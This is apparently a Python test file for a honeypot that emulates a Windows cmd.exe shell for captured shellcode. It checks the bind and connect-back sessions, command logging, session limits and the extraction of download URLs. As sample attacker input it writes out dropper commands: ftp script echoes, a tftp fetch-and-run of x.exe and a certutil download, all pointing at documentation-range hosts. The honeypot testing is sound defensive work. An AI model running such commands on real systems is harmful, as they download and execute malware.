"""Shells emulated shellcode opened, answered as cmd.exe: over a bind port, by connecting
back to the handler, and the session's own bounds."""

from __future__ import annotations

import asyncio
import socket
from pathlib import Path
from typing import Any

from muscipula.capture.bindstage import BindCatcher
from muscipula.capture.cmdexe import Cmd, Host
from muscipula.capture.connectback import ConnectBack
from muscipula.capture.download.policy import Policy
from muscipula.capture.shellsession import MAX_LINE, _offers, converse
from muscipula.config import Download
from muscipula.incidents import Bus, Incident
from muscipula.store import Store

HOST = Host("FILESRV02", "nt authority\\system", "6.1.7601")
PROMPT = b"C:\\Windows\\system32>"
BANNER = (b"Microsoft Windows [Version 6.1.7601]\r\n"
          b"Copyright (c) 2009 Microsoft Corporation.  All rights reserved.\r\n\r\n" + PROMPT)
DROPPER = [b"echo open 203.0.113.7 2121> o&echo user anon pw>>o",
           b"echo get bot.exe>>o&echo bye>>o",
           b"ftp -n -s:o",
           b"tftp -i 198.51.100.3 GET x.exe & x.exe"]


class Seen:
    def __init__(self, bus: Bus) -> None:
        self.items: list[tuple[str, int, dict[str, Any]]] = []
        for name in ("shell.command", "download.offer", "download.failed"):
            bus.subscribe(name, self.add)

    def add(self, inc: Incident) -> None:
        self.items.append((inc.name, inc.conn, dict(inc.fields)))

    def named(self, name: str) -> list[dict[str, Any]]:
        return [f for n, _c, f in self.items if n == name]


async def read_until(reader: asyncio.StreamReader, marker: bytes) -> bytes:
    return await asyncio.wait_for(reader.readuntil(marker), 5)


async def _served(cfg: Download, bus: Bus) -> tuple[asyncio.Server, int]:
    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await converse(reader, writer, Cmd(HOST), cfg, "bindshell://127.0.0.1:1/",
                       lambda name, fields: bus.emit(name, 7, fields))
        writer.close()

    server = await asyncio.start_server(handle, "127.0.0.1", 0)
    return server, server.sockets[0].getsockname()[1]


def test_a_dropper_session() -> None:
    async def go() -> None:
        bus = Bus()
        seen = Seen(bus)
        server, port = await _served(Download(), bus)
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        assert await read_until(reader, PROMPT) == BANNER
        writer.write(b"whoami\r\n")
        assert await read_until(reader, PROMPT) == (
            b"whoami\r\nnt authority\\system\r\n\r\n" + PROMPT)
        for line in DROPPER:
            writer.write(line + b"\n")
            assert await read_until(reader, PROMPT) == line + b"\r\n\r\n" + PROMPT
        writer.write(b"\r\nexit\r\n")
        rest = await asyncio.wait_for(reader.read(), 5)
        assert rest == b"\r\n" + PROMPT + b"exit\r\n"  # and closed
        writer.close()
        server.close()
        commands = [f["command"] for f in seen.named("shell.command")]
        assert commands == ["whoami", *[x.decode() for x in DROPPER], "exit"]
        assert {f["shell"] for f in seen.named("shell.command")} == {"bindshell://127.0.0.1:1/"}
        assert [(f["url"], f["source"]) for f in seen.named("download.offer")] == [
            ("ftp://anon:pw@203.0.113.7:2121/bot.exe", "shell"),
            ("tftp://198.51.100.3/x.exe", "shell")]

    asyncio.run(go())


def test_a_script_named_many_times_is_read_once() -> None:
    cmd = Cmd(HOST)
    cmd.run("echo open 203.0.113.7> o&echo get a.exe>>o")
    line = "ftp -s:o " + "-s:o " * 1600
    assert _offers(cmd, line) == ["ftp://203.0.113.7/a.exe"]


def test_session_bounds() -> None:
    async def go() -> None:
        bus = Bus()
        seen = Seen(bus)
        cfg = Download(shell_idle=0.3, max_shell_bytes=MAX_LINE * 3)
        server, port = await _served(cfg, bus)
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        await read_until(reader, PROMPT)
        # an overlong line is refused as cmd refuses it, and its rest is dropped
        writer.write(b"A" * (MAX_LINE + 10) + b"B" * 10 + b"\nhostname\n")
        assert await read_until(reader, PROMPT) == (
            b"A" * MAX_LINE + b"\r\nThe input line is too long.\r\n\r\n" + PROMPT)
        assert await read_until(reader, PROMPT) == b"hostname\r\nFILESRV02\r\n\r\n" + PROMPT
        # silence for shell_idle ends it
        assert await asyncio.wait_for(reader.read(), 5) == b""
        writer.close()
        assert [f["command"] for f in seen.named("shell.command")] == ["hostname"]
        # max_shell_bytes ends a session that never stops sending
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        await read_until(reader, PROMPT)
        writer.write(b"echo x\n" * (MAX_LINE // 2))
        got = await asyncio.wait_for(reader.read(), 5)
        assert got.count(b"echo x\r\nx\r\n") == MAX_LINE * 3 // 7
        writer.close()
        server.close()

    asyncio.run(go())


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _service(url: str, kind: str = "shell") -> Incident:
    return Incident("emu.service", 9, 0.0, {"url": url, "kind": kind,
                                           "local_host": "127.0.0.1",
                                           "remote_host": "127.0.0.1"})


def test_bind_shell_port_gets_a_cmd(tmp_path: Path) -> None:
    async def go() -> None:
        bus = Bus()
        seen = Seen(bus)
        store = Store(tmp_path / "binaries", 1 << 20, 1 << 24)
        catcher = BindCatcher(Download(bind_wait=5), store, bus, HOST)
        port = _free_port()
        catcher.service(_service(f"bindshell://{port}"))
        await asyncio.sleep(0.1)
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        assert await read_until(reader, PROMPT) == BANNER
        try:  # the port was the attacker's, once: it is shut behind them
            await asyncio.open_connection("127.0.0.1", port)
            raise AssertionError("a second connection was let in")
        except ConnectionRefusedError:
            pass
        writer.write(b"certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe\r\nexit\r\n")
        await asyncio.wait_for(reader.read(), 5)
        writer.close()
        await asyncio.sleep(0.1)
        assert not catcher.tasks and not catcher.sessions
        url = f"bindshell://127.0.0.1:{port}/"
        assert [(n, c) for n, c, _f in seen.items] == [
            ("shell.command", 9), ("download.offer", 9), ("shell.command", 9)]
        assert seen.named("shell.command")[0]["shell"] == url
        assert seen.named("download.offer")[0]["url"] == "http://203.0.113.9/a.exe"
        await catcher.close()

    asyncio.run(go())


def test_no_cmd_no_shell_port(tmp_path: Path) -> None:
    """Without a Windows host to answer with (or with shells off) the port stays shut."""
    async def go() -> None:
        bus = Bus()
        store = Store(tmp_path / "binaries", 1 << 20, 1 << 24)
        for catcher in (BindCatcher(Download(), store, bus, None),
                        BindCatcher(Download(shells=False), store, bus, HOST)):
            catcher.service(_service(f"bindshell://{_free_port()}"))
            assert not catcher.tasks
            catcher.service(_service(f"bindshell://{_free_port()}", "stager"))
            assert len(catcher.tasks) == 1
            await catcher.close()

    asyncio.run(go())


def test_connect_back_shell(tmp_path: Path) -> None:
    async def go() -> None:
        bus = Bus()
        seen = Seen(bus)
        cfg = Download(allow_networks=["127.0.0.0/8"], max_shells=1)
        back = ConnectBack(cfg, Policy(cfg.allow_networks, 2), bus, HOST)
        sessions: asyncio.Queue[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = \
            asyncio.Queue()

        async def handler(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            await sessions.put((reader, writer))

        server = await asyncio.start_server(handler, "127.0.0.1", 0)
        port = server.sockets[0].getsockname()[1]
        back.service(_service(f"connectbackshell://127.0.0.1:{port}"))
        back.service(_service(f"connectbackshell://127.0.0.1:{port}"))  # one at most
        back.service(_service(f"connectbackshell://127.0.0.1:{port}", "stager"))  # not a shell
        reader, writer = await asyncio.wait_for(sessions.get(), 5)
        assert await read_until(reader, PROMPT) == BANNER
        writer.write(b"hostname\r\nexit\r\n")
        assert (await asyncio.wait_for(reader.read(), 5)).startswith(
            b"hostname\r\nFILESRV02\r\n")
        writer.close()
        await asyncio.sleep(0.1)
        assert [f["command"] for f in seen.named("shell.command")] == ["hostname", "exit"]
        assert [f["reason"] for f in seen.named("download.failed")] == ["busy"]
        # the destination policy holds: loopback is refused unless allowed
        strict = ConnectBack(Download(), Policy([], 2), bus, HOST)
        strict.service(_service(f"connectbackshell://127.0.0.1:{port}"))
        await asyncio.sleep(0.2)
        assert [f["reason"] for f in seen.named("download.failed")] == ["busy", "destination"]
        # nor to the attacked host itself (an address allow_networks does not name)
        back.service(Incident("emu.service", 9, 0.0, {
            "url": "connectbackshell://192.0.2.1:4444", "kind": "shell",
            "local_host": "192.0.2.1", "remote_host": "127.0.0.1"}))
        assert seen.named("download.failed")[-1]["detail"] == "the attacked host itself"
        assert sessions.empty()
        server.close()
        await back.close()
        await strict.close()

    asyncio.run(go())
